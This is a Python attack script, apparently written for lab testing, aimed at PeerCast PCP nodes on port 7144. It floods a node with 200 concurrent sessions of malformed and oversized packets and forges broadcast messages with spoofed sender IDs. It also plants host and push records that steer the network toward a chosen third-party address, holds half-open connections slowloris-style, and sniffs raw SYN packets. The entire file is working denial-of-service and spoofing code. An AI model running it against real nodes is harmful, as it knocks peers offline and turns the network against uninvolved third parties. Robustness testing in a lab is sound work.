"""A peer that means harm, for the lab; the same seed does the same again.

attacker.py flood HOST CHANNEL THIRD SESSIONS SEED   sessions of ten kinds, 200 at a time
attacker.py slow HOST CHANNEL SECONDS                holds a connection in each state, a byte a second
attacker.py watch SECONDS                            counts who begins connections to this machine
"""

import json
import queue
import random
import socket
import struct
import sys
import threading
import time

SYN_WITHOUT_ACK = 0x02
CONTAINER = 0x80000000


def head(name, word):
    return name.encode().ljust(4, b"\0") + struct.pack("<I", word)


def data(name, payload):
    return head(name, len(payload)) + payload


def box(name, *children):
    return head(name, CONTAINER | len(children)) + b"".join(children)


def byte(name, value):
    return data(name, bytes([value]))


def short(name, value):
    return data(name, struct.pack("<H", value))


def number(name, value):
    return data(name, struct.pack("<I", value & 0xFFFFFFFF))


class Attacker:
    def __init__(self, host, channel, third="0.0.0.0", seed=0):
        self.host = host
        self.cid = bytes.fromhex(channel)
        self.third = bytes(reversed(socket.inet_aton(third)))
        self.seed = int(seed)
        self.get = b"GET /channel/%s HTTP/1.0\r\nx-peercast-pcp: 1\r\n\r\n" % channel.encode()
        self.control = data("pcp\n", b"\1\0\0\0")
        self.victim = b""

    def helo(self, chance, sid=None, **ports):
        sid = sid or chance.randbytes(16)
        extra = [short(name, port) for name, port in ports.items()]
        return box("helo", data("agnt", b"Evil\0"), number("ver", 1218), data("sid", sid), *extra)

    def host_of_third(self, chance, sid):
        where = [data("ip", self.third), short("port", 7144)] * 2
        counts = [number("numl", chance.randrange(1 << 31)), number("numr", 9), number("uptm", 1)]
        rest = [number("ver", 1218), number("vevp", 27), byte("flg1", 0x36), number("oldp", 0), number("newp", 0)]
        return box("host", data("cid", self.cid), data("id", sid), *where, *counts, *rest)

    def envelope(self, chance, sender, *payload, dest=b""):
        to = [data("dest", dest)] if dest else []
        group = byte("grp", chance.choice([1, 2, 4, 255]))
        versions = [number("vers", 1218), number("vrvp", 27)]
        start = [byte("ttl", 255), byte("hops", chance.randrange(3)), data("from", sender), *to, group]
        return box("bcst", *start, data("cid", self.cid), *versions, *payload)

    def storm(self, link, chance):
        """Envelopes from itself and from others, hosts and pushes that point at a third party."""
        me = chance.randbytes(16)
        link.sendall(self.get + self.helo(chance, me, port=7144))
        for _ in range(40):
            push = box("push", data("ip", self.third), short("port", chance.randrange(65536)), data("cid", self.cid))
            spoofed = chance.choice([me, chance.randbytes(16), self.victim or me])
            link.sendall(
                self.envelope(chance, spoofed, self.host_of_third(chance, chance.randbytes(16)))
                + self.envelope(chance, me, self.host_of_third(chance, me))
                + self.envelope(chance, me, push)
                + self.envelope(chance, me, push, dest=self.victim or me)
            )

    def session(self, n):
        chance = random.Random(self.seed * 100_000 + n)
        link = socket.create_connection((self.host, 7144), timeout=5)
        link.settimeout(2)
        with link:
            helo = self.helo(chance)
            match n % 10:
                case 0:
                    link.sendall(chance.randbytes(chance.randrange(4000)))
                case 1:
                    link.sendall(self.control + chance.randbytes(3000))
                case 2:
                    link.sendall(self.get + helo + chance.randbytes(3000))
                case 3:
                    link.sendall(self.get + b"".join(self.helo(chance, ping=7144) for _ in range(300)))
                case 4:
                    link.sendall(self.get + helo + head("chan", 0x7FFFFFFF) + bytes(2000))
                case 5:
                    link.sendall(self.get + helo + head("a", 0xFFFFFFFF) + bytes(200))
                case 6:
                    self.storm(link, chance)
                case 7:
                    link.sendall(b"GIV /%s\r\n\r\nHTTP/1.0 200 OK\r\n\r\n" % self.cid.hex().encode() + helo)
                case 8:
                    link.sendall(chance.choice(list(self.states().values())))
                    time.sleep(chance.random() * 3)
                case 9:
                    forged = self.host_of_third(chance, chance.randbytes(16))
                    greeting = self.control + self.helo(chance, ping=chance.randrange(65536))
                    link.sendall(greeting + self.envelope(chance, chance.randbytes(16), forged))
            for _ in range(3):
                heard = link.recv(1 << 16)
                if not heard:
                    break
                self.introduced(heard)

    def introduced(self, heard):
        """The session id of the other side, out of its oleh."""
        at = heard.find(head("sid", 16)) if b"oleh" in heard else -1
        if at >= 0 and len(heard) >= at + 24:
            self.victim = heard[at + 8 : at + 24]

    def states(self):
        """What leaves a connection in the middle of each of its states."""
        helo = self.helo(random.Random(1))
        return {
            "nothing said": b"",
            "first byte": b"p",
            "half a magic": self.control[:7],
            "control, no helo": self.control,
            "half a helo": self.control + helo[:20],
            "half a request": self.get[:30],
            "request, no helo": self.get,
            "request, half a helo": self.get + helo[:20],
            "half a call": b"GIV /",
            "call": b"GIV /%s\r\n\r\n" % self.cid.hex().encode(),
        }


def flood(host, channel, third, sessions, seed):
    attacker = Attacker(host, channel, third, seed)
    waiting, results = queue.Queue(), []
    for n in range(int(sessions)):
        waiting.put(n)

    def work():
        while True:
            try:
                n = waiting.get_nowait()
            except queue.Empty:
                return
            try:
                attacker.session(n)
                results.append(True)
            except OSError:
                # Refused, or cut while it still spoke: both are fine answers.
                results.append(False)

    workers = [threading.Thread(target=work) for _ in range(200)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()
    return {"ended": results.count(True), "cut": results.count(False)}


def slow(host, channel, seconds):
    """For each state: after how many seconds the node ended it; null if it did not."""
    attacker = Attacker(host, channel)
    lasted, workers = {}, []

    def hold(name, said):
        lasted[name] = None
        began = time.monotonic()
        link = socket.create_connection((host, 7144), timeout=5)
        link.settimeout(1)
        try:
            link.sendall(said)
            while time.monotonic() - began < float(seconds):
                try:
                    if not link.recv(1 << 16):
                        break
                except TimeoutError:
                    # Where a byte more would complete nothing, it keeps the connection busy.
                    if said:
                        link.sendall(b"\0" if said.startswith(b"p") else b"x")
            else:
                return
        except OSError:
            pass
        lasted[name] = round(time.monotonic() - began, 1)

    for name, said in attacker.states().items():
        workers.append(threading.Thread(target=hold, args=(name, said)))
        workers[-1].start()
    for worker in workers:
        worker.join()
    return lasted


def watch(seconds):
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(0x0800))
    wire.settimeout(0.5)
    begun, until = {}, time.monotonic() + float(seconds)
    while time.monotonic() < until:
        try:
            frame, where = wire.recvfrom(2048)
        except TimeoutError:
            continue
        packet = frame[14:]
        if where[0] != "eth0" or where[2] == socket.PACKET_OUTGOING or packet[9] != socket.IPPROTO_TCP:
            continue
        flags = packet[(packet[0] & 15) * 4 + 13]
        if flags & 0x12 == SYN_WITHOUT_ACK:
            source = socket.inet_ntoa(packet[12:16])
            begun[source] = begun.get(source, 0) + 1
    return begun


if __name__ == "__main__":
    verbs = {"flood": flood, "slow": slow, "watch": watch}
    print(json.dumps(verbs[sys.argv[1]](*sys.argv[2:])))
